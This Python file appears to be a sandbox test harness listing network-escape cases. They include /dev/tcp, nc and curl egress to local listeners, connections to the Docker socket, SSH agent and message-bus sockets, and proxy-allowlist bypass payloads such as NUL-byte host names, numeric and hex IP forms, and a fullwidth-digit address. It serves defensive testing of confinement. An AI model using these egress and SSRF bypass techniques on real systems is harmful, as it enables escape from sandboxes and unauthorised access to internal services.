"""Reaching servers of this machine and hosts that nobody allowed; being reached."""
from attack import (CONTAINER, EGRESS, HANDLERS, LINE_NETWORK, LINE_PROXY, LINE_PROXY_RULES, LINE_SOCKET_CALLS, LINE_UNIX,
                    LOCAL_SERVERS, MOUNTS, REMOTE, SSRF, Attack, printed, python, reached, wrote)

# Connects as a client that is told of the proxy by its environment, or straight where there is none.
THROUGH_PROXY = """
import os, socket
def through(host, port, payload):
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        host = host.split(b"\\0")[0].strip(b"[]").decode()
        socket.create_connection((host, port), 10).sendall(payload)
        return
    where, at = proxy.split("//")[1].split(":")
    connection = socket.create_connection((where, int(at)), 10)
    connection.sendall(b"CONNECT " + host + b":%d HTTP/1.1\\r\\n\\r\\n" % port)
    if b" 200 " in connection.recv(4096):
        connection.sendall(payload)
"""


def through_proxy(host, port="@TCP@"):
    return python(THROUGH_PROXY + f'through({host!r}, {port}, b"@TOKEN@")')


def behind_proxy(name, kinds, script):
    return Attack(name, kinds, script, reached, levels=MOUNTS, proxy=True)


def by_unix_socket(address, payload="@TOKEN@"):
    return python(f'import os, socket\ns = socket.socket(socket.AF_UNIX); s.connect({address}); s.sendall(b"{payload}")')


def called_back(world, output):
    return world.caller.heard(world.token)


# Says the token to whoever connects within a second.
SERVE = """
listener.settimeout(1)
try: listener.accept()[0].sendall(b"@TOKEN@")
except OSError: pass
"""

PROGRAMS = (
    Attack("tcp_by_the_shell", (LOCAL_SERVERS, LINE_NETWORK), "exec 3<>/dev/tcp/127.0.0.1/@TCP@; echo @TOKEN@ >&3", reached),
    Attack("udp_by_the_shell", (EGRESS, LINE_NETWORK), "echo @TOKEN@ > /dev/udp/127.0.0.1/@UDP@", reached),
    Attack("curl", (SSRF, LINE_NETWORK), "curl -s --max-time 5 http://127.0.0.1:@TCP@/@TOKEN@", reached),
    Attack("wget", (SSRF, LINE_NETWORK), "wget -q -O - -T 5 -t 1 http://127.0.0.1:@TCP@/@TOKEN@", reached),
    Attack("nc", (EGRESS, LINE_NETWORK), "echo @TOKEN@ | nc -w 2 127.0.0.1 @TCP@", reached),
    Attack("ssh", (REMOTE, LINE_NETWORK), "ssh -o BatchMode=yes -o ConnectTimeout=5 -p @TCP@ someone@127.0.0.1 @TOKEN@",
           lambda world, output: world.listeners.got("SSH-2.0-"), users=("root",)),
    Attack("getent", (EGRESS, LINE_NETWORK), "timeout 3 getent ahostsv4 @TOKEN@.example", reached, needs_root=True),
    Attack("ping", (EGRESS, LINE_NETWORK), "ping -c 1 -W 1 -p @PING@ 127.0.0.1",
           lambda world, output: world.listeners.got_bytes(bytes.fromhex(world.ping)), needs_root=True),
)

CALLS = (
    Attack("tcp_by_name", (LOCAL_SERVERS, LINE_SOCKET_CALLS),
           python('import socket\nsocket.create_connection(("localhost", @TCP@), 5).sendall(b"@TOKEN@")'), reached),
    Attack("tcp_over_ipv6", (LOCAL_SERVERS, LINE_SOCKET_CALLS),
           python('import socket\nsocket.create_connection(("::1", @TCP6@), 5).sendall(b"@TOKEN@")'), reached),
    Attack("sent_while_connecting", (EGRESS, LINE_SOCKET_CALLS),
           python('import socket\nsocket.socket().sendto(b"@TOKEN@", socket.MSG_FASTOPEN, ("127.0.0.1", @TCP@))'), reached),
    Attack("datagram", (EGRESS, LINE_SOCKET_CALLS),
           python('import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@TOKEN@", ("127.0.0.1", @UDP@))'), reached),
    Attack("datagram_by_another_call", (EGRESS, LINE_SOCKET_CALLS),
           python('import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"@TOKEN@"], [], 0, ("127.0.0.1", @UDP@))'), reached),
    Attack("raw_packets", (EGRESS, LINE_SOCKET_CALLS), python("""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0@TOKEN@", ("127.0.0.1", 0))
"""), reached, users=("root",)),
    Attack("frames_of_the_interface", (EGRESS, LINE_SOCKET_CALLS),
           python('import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print("opened")'), printed("opened"), users=("root",)),
    Attack("filters_of_the_kernel", (CONTAINER, LINE_SOCKET_CALLS),
           python('import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); print("opened")'), printed("opened")),
    Attack("server_for_others", (LOCAL_SERVERS, LINE_SOCKET_CALLS),
           python('import socket\nlistener = socket.create_server(("127.0.0.1", @CALLED@))' + SERVE), called_back),
    Attack("server_for_others_by_name", (LOCAL_SERVERS, LINE_SOCKET_CALLS),
           python('import socket\nlistener = socket.socket(socket.AF_UNIX); listener.bind("\\0@CALLED_NAME@"); listener.listen()' + SERVE), called_back),
)

UNIX = (
    Attack("abstract_socket", (LOCAL_SERVERS, LINE_UNIX), by_unix_socket('"\\0@ABSTRACT@"'), reached),
    Attack("control_socket", (CONTAINER, LINE_UNIX), by_unix_socket('"@CONTROL@"'), reached),
    Attack("control_socket_by_datagram", (CONTAINER, LINE_UNIX),
           python('import socket\nsocket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"@TOKEN@", "@LOG@")'), reached),
    Attack("containers_socket", (CONTAINER, LINE_UNIX), "curl -s --max-time 5 --unix-socket @DOCKER@ http://d/@TOKEN@", reached),
    Attack("server_beside_a_toolchain", (CONTAINER, LINE_UNIX), by_unix_socket('"@DAEMON@"'), reached),
    Attack("socket_in_the_workspace", (CONTAINER, LINE_UNIX), by_unix_socket('"app.sock"'), reached),
    Attack("descriptor_through_a_socket", (CONTAINER, LINE_UNIX), python("""
import os, socket
s = socket.socket(socket.AF_UNIX); s.connect("app.sock"); s.sendall(b"folder")
_, fds, _, _ = socket.recv_fds(s, 16, 1)
with open(os.open("ran", os.O_CREAT | os.O_WRONLY, dir_fd=fds[0]), "w") as file: file.write("@TOKEN@")
"""), wrote("@OUT@/ran")),
    Attack("key_agent", (REMOTE, LINE_UNIX), by_unix_socket('os.environ.get("SSH_AUTH_SOCK", "@CONTROL@")'), reached),
    Attack("message_bus", (HANDLERS, LINE_UNIX), by_unix_socket('"@CONTROL@"', "\\0AUTH EXTERNAL @TOKEN@\\r\\n"), reached),
)

PROXY = (
    behind_proxy("curl_without_its_proxy", (EGRESS, LINE_PROXY), "curl -s --noproxy '*' --max-time 5 http://127.0.0.1:@TCP@/@TOKEN@"),
    behind_proxy("ipv6_beside_the_proxy", (EGRESS, LINE_PROXY), "curl -s --noproxy '*' --max-time 5 'http://[::1]:@TCP6@/@TOKEN@'"),
    behind_proxy("datagram_beside_the_proxy", (EGRESS, LINE_PROXY), "echo @TOKEN@ > /dev/udp/127.0.0.1/@UDP@"),
    behind_proxy("request_of_a_local_page", (LOCAL_SERVERS, LINE_PROXY_RULES), "curl -s --noproxy '' --max-time 5 http://127.0.0.1:@TCP@/@TOKEN@"),
    behind_proxy("allowed_name_in_front", (EGRESS, LINE_PROXY_RULES), "curl -s --noproxy '' --max-time 5 http://allowed.test@127.0.0.1:@TCP@/@TOKEN@"),
    behind_proxy("allowed_name_in_the_header", (EGRESS, LINE_PROXY_RULES),
                 "curl -s --noproxy '' --max-time 5 -H 'Host: allowed.test' http://127.0.0.1:@TCP@/@TOKEN@"),
    behind_proxy("proxy_to_this_machine", (EGRESS, LINE_PROXY_RULES), through_proxy(b"127.0.0.1")),
    behind_proxy("proxy_nul_in_the_name", (EGRESS, LINE_PROXY_RULES), through_proxy(b"127.0.0.1\0.allowed.test")),
    behind_proxy("proxy_number_for_an_address", (EGRESS, LINE_PROXY_RULES), through_proxy(b"2130706433")),
    behind_proxy("proxy_hexadecimal_address", (SSRF, LINE_PROXY_RULES), through_proxy(b"0x7f.1")),
    behind_proxy("proxy_mapped_address", (SSRF, LINE_PROXY_RULES), through_proxy(b"[::ffff:127.0.0.1]")),
    behind_proxy("proxy_local_ipv6", (SSRF, LINE_PROXY_RULES), through_proxy(b"[::1]", "@TCP6@")),
    behind_proxy("proxy_any_address", (SSRF, LINE_PROXY_RULES), through_proxy(b"0.0.0.0")),
    behind_proxy("proxy_name_of_this_machine", (LOCAL_SERVERS, LINE_PROXY_RULES), through_proxy(b"localhost")),
    behind_proxy("proxy_wide_digits", (EGRESS, LINE_PROXY_RULES), through_proxy("\uff11\uff12\uff17.0.0.1".encode())),
)

ATTACKS = PROGRAMS + CALLS + UNIX + PROXY
